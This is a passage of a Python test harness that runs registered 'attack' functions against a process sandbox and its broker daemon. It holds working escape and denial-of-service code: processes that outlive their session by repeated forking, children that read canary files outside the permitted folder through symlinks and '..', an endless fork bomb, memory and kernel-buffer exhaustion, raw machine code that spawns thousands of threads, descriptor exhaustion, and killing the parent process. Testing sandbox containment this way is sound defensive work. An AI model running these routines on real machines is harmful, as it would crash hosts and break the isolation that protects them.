        if os.fork() == 0:
            write_on(held)
        os._exit(0)
    end = time.monotonic() + 2
    while os.fstat(held).st_size < 5 and time.monotonic() < end:
        time.sleep(0.005)
    return {"got": False, "written": os.fstat(held).st_size}


@attack
def survive_by_forking_on(place: Place) -> dict[str, Any]:
    """A process that always leaves a child and ends, faster than anybody looks."""
    held = os.open(place["inside"] + "/log", os.O_CREAT | os.O_WRONLY | os.O_APPEND, 0o644)
    if os.fork() == 0:
        while os.fstat(held).st_nlink:
            os.write(held, b"x")
            if os.fork():
                os._exit(0)
        os._exit(0)
    end = time.monotonic() + 2
    while os.fstat(held).st_size < 5 and time.monotonic() < end:
        time.sleep(0.005)
    return {"got": False, "written": os.fstat(held).st_size}


@attack
def survive_by_a_thread(place: Place) -> dict[str, Any]:
    """A thread that is no daemon thread: Python would wait for it."""
    held = os.open(place["inside"] + "/log", os.O_CREAT | os.O_WRONLY | os.O_APPEND, 0o644)
    threading.Thread(target=write_on, args=(held,)).start()
    time.sleep(0.05)
    return {"got": False, "written": os.fstat(held).st_size}


@attack
def survive_without_the_channel(place: Place) -> dict[str, Any]:
    """Closes the channel and goes on in the hope that nobody looks any more."""
    held = os.open(place["inside"] + "/log", os.O_CREAT | os.O_WRONLY | os.O_APPEND, 0o644)
    os.dup2(held, 200)
    os.write(held, b"x")
    os.closerange(3, 200)
    write_on(200)
    return {"got": False}


@attack
def child_leaves_the_scope(place: Place) -> dict[str, Any]:
    """A child changes its folder in every way it knows and reads what is there."""
    reader, writer = os.pipe()
    if os.fork() == 0:
        for way in (
            lambda: os.chdir(place["outside"]),
            lambda: os.chdir(place["inside"] + "/folder-link"),
            lambda: os.fchdir(os.open(place["inside"] + "/folder-link", os.O_PATH | os.O_DIRECTORY)),
            lambda: (os.chdir(place["inside"]), os.chdir(".."), os.chdir("outside")),
        ):
            try:
                way()
                os.write(writer, Path("file").read_bytes())
            except OSError:
                continue
        os._exit(0)
    os.close(writer)
    os.wait()
    return {"got": re.findall("canar[y]-[0-9a-f]{16}", read_all(reader))}


@attack
def vforked_child_reads(place: Place) -> dict[str, Any]:
    """posix_spawn is what uses vfork(2) in Python; the child's own calls are checked as its parent's are."""
    reader, writer = os.pipe()
    actions = [(os.POSIX_SPAWN_OPEN, 0, place["outside"] + "/file", os.O_RDONLY, 0), (os.POSIX_SPAWN_DUP2, writer, 1)]
    try:
        child = os.posix_spawn(place["tools"]["cat"], ["cat"], {}, file_actions=actions)
    finally:
        os.close(writer)
    os.waitpid(child, 0)
    return {"got": read_all(reader)}


# -- more than its share


@attack
def exceed_the_file_size(place: Place) -> dict[str, Any]:
    """Room on the disk without a size: FALLOC_FL_KEEP_SIZE."""
    held = os.open(place["inside"] + "/large", os.O_CREAT | os.O_RDWR, 0o644)
    libc.fallocate64(held, 1, ctypes.c_longlong(0), ctypes.c_longlong(200 << 20))
    return {"got": os.fstat(held).st_blocks * 512 > 100 << 20}


@attack
def hold_memory_of_the_kernel(place: Place) -> dict[str, Any]:
    """Full sockets of many processes that are small themselves: memory that no process's own account shows."""
    processes, report = 30, os.pipe()

    def fill() -> int:
        total = 0
        for _ in range(120):
            try:
                pair = socket.socketpair()
            except OSError:
                break
            for end in pair:
                with contextlib.suppress(OSError):
                    end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
                end.setblocking(False)
                os.set_inheritable(end.fileno(), True)
                try:
                    while total < 50 << 20:
                        total += end.send(bytes(65536))
                except BlockingIOError:
                    pass
                end.detach()
        return total

    for _ in range(processes):
        if os.fork() == 0:
            try:
                os.write(report[1], struct.pack("=Q", fill()))
                os.execve(place["tools"]["sleep"], ["sleep", "30"], {})
            finally:
                os._exit(1)
    os.close(report[1])
    total = 0
    while told := os.read(report[0], 8):
        total += struct.unpack("=Q", told)[0]
    time.sleep(0.8)  # longer than it takes between two looks at the memory
    return {"got": total > 800 << 20, "total": total}


# For x86_64: clone(2) of threads, as many as the argument says; each pauses and needs no stack. Returns how many are left.
THREADS = bytes.fromhex(
    "4154 4989fc bf000f0500 31f6 31d2 4d31d2 4d31c0 b838000000 0f05 4885c0 740d 7805 49ffcc 75de"
    "4c89e0 415c c3 b822000000 0f05 ebf7"
)


@attack
def start_thousands_of_threads(place: Place) -> dict[str, Any]:
    """The machine has 32768 numbers for processes and threads of all its users (kernel.pid_max)."""
    if ARCHITECTURE:
        raise ToolFailure("no machine code for this processor")
    processes, each = 20, 240
    reader, writer = os.pipe()
    for _ in range(processes):
        if os.fork() == 0:
            code = libc.mmap(None, ctypes.c_size_t(4096), 7, 0x22, -1, ctypes.c_long(0))
            ctypes.memmove(code, THREADS, len(THREADS))
            left = ctypes.CFUNCTYPE(ctypes.c_long, ctypes.c_long)(code)(each)
            os.write(writer, struct.pack("=Q", each - left))
            time.sleep(30)
            os._exit(0)
    total = sum(struct.unpack("=Q", os.read(reader, 8))[0] for _ in range(processes))
    return {"got": total > 4096, "total": total}


@attack
def fork_from_many_threads(place: Place) -> dict[str, Any]:
    """All at once, so that the broker counts before the children are there."""
    alive = []

    def start() -> None:
        child = libc.fork()
        if child == 0:
            time.sleep(20)
            os._exit(0)
        if child > 0:
            alive.append(child)

    threading.stack_size(65536)
    threads = [threading.Thread(target=start) for _ in range(400)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for child in alive:
        os.kill(child, signal.SIGKILL)
    return {"got": len(alive) > 80, "alive": len(alive)}


@attack
def leak_descriptors_of_the_daemon(place: Place) -> dict[str, Any]:
    """connect(2) to a granted peer, but on what is no socket: the test counts what the daemon holds."""
    address = struct.pack("=H", 2) + struct.pack("!H", place["granted"]) + socket.inet_aton("127.0.0.1") + bytes(8)
    reader, _ = os.pipe()
    for _ in range(200):
        libc.connect(reader, address, 16)
        libc.connect(999, address, 16)
    return {"got": False}


@attack
def exhaust_descriptors_of_the_daemon(place: Place) -> dict[str, Any]:
    """A path of very many folders, each of which is held open while it is walked."""

    def chain(name: str) -> str:
        path = f"{place['inside']}/{name}"
        os.mkdir(path)
        for _ in range(39):
            path += "/d"
            os.mkdir(path)
        return path

    tip = chain("top")
    try:
        for _ in range(44):
            chain("next")
            os.rename(place["inside"] + "/next", tip + "/d")
            tip += "/d" * 40
    except OSError:
        pass
    end = time.monotonic() + 0.5
    while time.monotonic() < end:
        try:
            os.stat("/" + tip)
        except OSError:
            continue
    return {"got": False, "depth": tip.count("/")}


@attack
def signal_a_child_that_has_ended(place: Place) -> dict[str, Any]:
    """Until somebody has waited for it, it can be signalled like any other (kill(2))."""
    child = os.fork()
    if child == 0:
        os._exit(0)
    time.sleep(0.2)
    os.kill(child, signal.SIGTERM)
    os.waitpid(child, 0)
    return {"done": True}


# -- bad guests


@attack
def hang(place: Place) -> dict[str, Any]:
    while True:
        time.sleep(1)


@attack
def spin(place: Place) -> dict[str, Any]:
    while True:
        os.access(place["inside"], os.F_OK)


@attack
def spin_in_many_processes(place: Place) -> dict[str, Any]:
    for _ in range(6):
        try:
            os.fork()
        except OSError:
            break
    while True:
        os.access(place["inside"], os.F_OK)


@attack
def fork_without_end(place: Place) -> dict[str, Any]:
    while True:
        try:
            os.fork()
        except OSError:
            continue


@attack
def fork_and_stay(place: Place) -> dict[str, Any]:
    """Children that do nothing; whoever is refused asks again."""
    while True:
        try:
            if os.fork() == 0:
                time.sleep(100)
        except OSError:
            continue


def channel() -> int:
    for descriptor in range(3, 64):
        try:
            os.fstat(descriptor)
        except OSError:
            continue
        return descriptor
    raise LookupError


@attack
def flood_the_channel(place: Place) -> dict[str, Any]:
    answer, block = channel(), struct.pack("=I", 1 << 30) + bytes(1 << 20)
    for _ in range(1024):
        os.write(answer, block)
    return {}


@attack
def flood_by_an_answer(place: Place) -> dict[str, Any]:
    return {"text": "x" * (64 << 20)}


@attack
def flood_standard_output(place: Place) -> dict[str, Any]:
    block = bytes(1 << 20)
    for _ in range(1024):
        os.write(1, block)
        os.write(2, block)
    raise ToolFailure("nobody reads it")


@attack
def eat_memory(place: Place) -> dict[str, Any]:
    held = []
    while True:
        held.append(bytearray(b"x") * (16 << 20))


@attack
def eat_memory_together(place: Place) -> dict[str, Any]:
    for _ in range(7):
        if os.fork() == 0:
            break
    held = [bytearray(b"x") * (16 << 20) for _ in range(15)]
    time.sleep(30)
    return {"n": len(held)}


@attack
def open_a_fifo(place: Place) -> dict[str, Any]:
    return {"got": os.read(os.open(place["inside"] + "/fifo", os.O_RDONLY), 1)}


@attack
def close_everything(place: Place) -> dict[str, Any]:
    os.closerange(0, 1024)
    return {}


@attack
def close_everything_and_stay(place: Place) -> dict[str, Any]:
    os.closerange(0, 1024)
    while True:
        time.sleep(1)


@attack
def kill_the_parent(place: Place) -> dict[str, Any]:
    os.kill(os.getppid(), signal.SIGKILL)
    return {"got": True}


@attack
def kill_itself(place: Place) -> dict[str, Any]:
    os.kill(os.getpid(), signal.SIGKILL)
    return {}


@attack
def stop_itself(place: Place) -> dict[str, Any]:
    os.kill(os.getpid(), signal.SIGSTOP)
    return {"got": True}


@attack
def make_denied_calls(place: Place) -> dict[str, Any]:
    path = (place["outside"] + "/file").encode()
    for _ in range(1_000_000):
        libc.access(path, 0)
    return {"got": True}


@attack
def exit_without_an_answer(place: Place) -> dict[str, Any]:
    os._exit(0)


@attack
def answer_no_text(place: Place) -> dict[str, Any]:
    os.write(channel(), struct.pack("=I", 4) + b'"\xff\xfe"')
    time.sleep(30)
    return {}


@attack
def answer_text_of_surrogates(place: Place) -> dict[str, Any]:
    raise ToolFailure("\udcff\ud800 is no text")


@attack
def answer_numbers_that_fit_nowhere(place: Place) -> dict[str, Any]:
    body = json.dumps({"result": {}, "usage": {"cpu_us": 10**40, "rss_kb": -(10**40)}}).encode()
    os.write(channel(), struct.pack("=I", len(body)) + body)
    time.sleep(30)
    return {}


@attack
def answer_what_is_no_json(place: Place) -> dict[str, Any]:
    return {"value": float("nan"), "more": float("inf")}


# -- chance


@attack
def draw(place: Place) -> dict[str, Any]:
    drawn = {
        "random": random.random(),
        "bits": random.getrandbits(64),
        "uuid": str(uuid.uuid4()),
        "urandom": os.urandom(16).hex(),
        "system": random.SystemRandom().random(),
    }
    try:
        import ssl
    except ImportError:
        return drawn
    return drawn | {"ssl": ssl.RAND_bytes(16).hex()}


def run(name: str, place: Place) -> dict[str, Any]:
    try:
        return registered[name](place=place)
    except ToolFailure as e:
        return {"error": str(e)}
    except OSError as e:
        return {"error": f"{errno.errorcode.get(e.errno or 0, '')} {e}"}


def serve() -> None:
    """One attack for each line, in a child each; then its answer as a line."""
    for line in sys.stdin:
        name, place = json.loads(line)
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            os.dup2(os.open("/dev/null", os.O_RDWR), 0)
            os.dup2(0, 1)
            os.close(reader)
            answer = run(name, place)
            os.write(writer, json.dumps(answer).encode()[:65536])
            os._exit(0)
        os.close(writer)
        _, status = os.waitpid(child, 0)
        os.set_blocking(reader, False)
        try:
            answer = os.read(reader, 65536).decode()
        except BlockingIOError:
            answer = ""
        os.close(reader)
        print(answer or json.dumps({"error": f"it ended with {os.waitstatus_to_exitcode(status)}"}), flush=True)


def main() -> None:
    """The controls: one attack, as many as are asked for, or the names of all."""
    if sys.argv[1:] == ["--serve"]:
        serve()
    elif sys.argv[1:] == ["--list"]:
        print(*registered)
    else:
        print(json.dumps(run(sys.argv[1], json.loads(sys.argv[2]))), flush=True)


if __name__ == "__main__":
    main()
